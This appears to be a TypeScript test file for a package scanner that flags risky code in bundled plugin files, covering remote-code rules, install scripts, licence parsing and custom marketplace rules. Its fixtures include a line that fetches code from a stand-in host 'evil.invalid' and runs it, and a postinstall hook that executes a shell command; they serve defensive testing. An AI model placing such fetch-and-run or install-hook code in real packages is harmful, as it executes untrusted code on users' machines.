import { createHash } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openPackageCache, packArchive } from '@guildhall/plugin-project';
import { analyzePackage } from './analyze-package.ts';
import type { ActiveRule } from './jobs.ts';

let cacheFolder: string;
beforeAll(async () => {
  cacheFolder = await mkdtemp(join(tmpdir(), 'guildhall-forge-package-'));
});
afterAll(() => rm(cacheFolder, { recursive: true, force: true }));

/** Puts a package into the cache and looks at those of its files that a bundle has. */
async function look(
  texts: Readonly<Record<string, string>>,
  fields: object = {},
  files = ['index.js'],
  rules: ActiveRule[] | null = null,
) {
  const encoder = new TextEncoder();
  const all = { 'package.json': JSON.stringify({ name: 'words', version: '1.2.0', ...fields }), ...texts };
  const tarball = await packArchive(
    new Map(Object.entries(all).map(([path, text]) => [path, encoder.encode(text)])),
  );
  const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
  await openPackageCache(cacheFolder).write(integrity, tarball);
  const reference = { name: 'words', version: '1.2.0', integrity };
  return analyzePackage({ package: reference, files, cacheFolder, rules });
}

const HOSTILE = `fetch('https://evil.invalid/x').then((r) => r.text()).then((t) => new Function(t)());\n`;
const rulesIn = ({ findings }: { findings: readonly { ruleId: string }[] }) => [
  ...new Set(findings.map(({ ruleId }) => ruleId)),
];

describe('a package in a bundle', () => {
  it('is found by what its bundled files do, with file and line', async () => {
    const { findings } = await look({ 'index.js': `export const a = 1;\n${HOSTILE}` });
    expect(findings).toContainEqual(
      expect.objectContaining({ ruleId: 'remote-code', severity: 'CRITICAL', file: 'index.js', line: 2 }),
    );
  });

  it('is not blamed for files that are in no bundle', async () => {
    expect(rulesIn(await look({ 'index.js': 'export {};', 'other.js': HOSTILE }))).toEqual([]);
  });

  it('is told of a script that would run when it is installed, and of what that does', async () => {
    const scripts = { postinstall: 'node ./install.js' };
    const report = await look(
      { 'index.js': '', 'install.js': `require('child_process').exec('id')` },
      { scripts },
    );
    expect(report.findings).toMatchObject([
      { ruleId: 'install-script', severity: 'CRITICAL', threat: 'install-scripts' },
    ]);
  });

  it('is not judged by what its own developers install, nor for being minified', async () => {
    const minified = `!function(){${'var a=1,b=2;a+=b;'.repeat(400)}}();`;
    const report = await look(
      { 'index.js': minified },
      { devDependencies: { lodahs: '1.0.0', 'git-thing': 'git+https://a.invalid/b.git' } },
    );
    expect(rulesIn(report)).toEqual([]);
  });

  it.each<[string, object, string | null]>([
    ['a text', { license: 'MIT' }, 'MIT'],
    ['an object', { license: { type: 'ISC', url: 'x' } }, 'ISC'],
    ['a list', { licenses: [{ type: 'MIT' }, { type: 'Apache-2.0' }] }, 'MIT OR Apache-2.0'],
    ['nothing', { license: '' }, null],
    ['nobody', {}, null],
    ['what hides', { license: 'M\u202eIT' }, 'M<U+202E>IT'],
    ['a long package.json', { license: 'MIT', notes: 'long '.repeat(50_000) }, 'MIT'],
  ])('has the licence that %s names', async (_what, fields, licence) => {
    expect((await look({ 'index.js': '' }, fields)).licence).toBe(licence);
  });

  it('that is larger than the analysis reads is not taken for clean', async () => {
    // Text that hardly packs, so that the archive itself is not refused.
    const line = (_: unknown, n: number) => createHash('sha512').update(`${n}`).digest('hex');
    const text = Array.from({ length: 40_000 }, line).join('');
    const report = await look({ 'index.js': `// ${text}` });
    expect(report.findings).toMatchObject([
      { ruleId: 'analysis-incomplete', severity: 'HIGH', file: 'index.js' },
    ]);
  });

  it('that is not in the cache breaks the look, not the plugin', async () => {
    const integrity = `sha512-${createHash('sha512').update('nobody').digest('base64')}`;
    const wanted = { package: { name: 'words', version: '1.2.0', integrity }, files: [], cacheFolder };
    await expect(analyzePackage(wanted)).rejects.toThrow('not in the cache');
  });

  it("is held against a marketplace's own rules alone where those are given, and only its bundled files", async () => {
    const definition = 'id: no-fetch\nmessage: It fetches\nseverity: high\nrule: { pattern: fetch($$$) }\n';
    const texts = { 'index.js': HOSTILE, 'other.js': 'fetch("https://other.invalid")' };
    const watched = await look(texts, {}, ['index.js'], [{ definition, enforced: false }]);
    expect(watched.findings).toMatchObject([
      { ruleId: 'custom/no-fetch', file: 'index.js', line: 1, observed: true, threat: 'custom' },
    ]);
    const counted = await look(texts, {}, ['index.js'], [{ definition, enforced: true }]);
    expect(counted.findings).toMatchObject([{ ruleId: 'custom/no-fetch', severity: 'HIGH' }]);
    expect(counted.findings[0]).not.toHaveProperty('observed');
  });
});
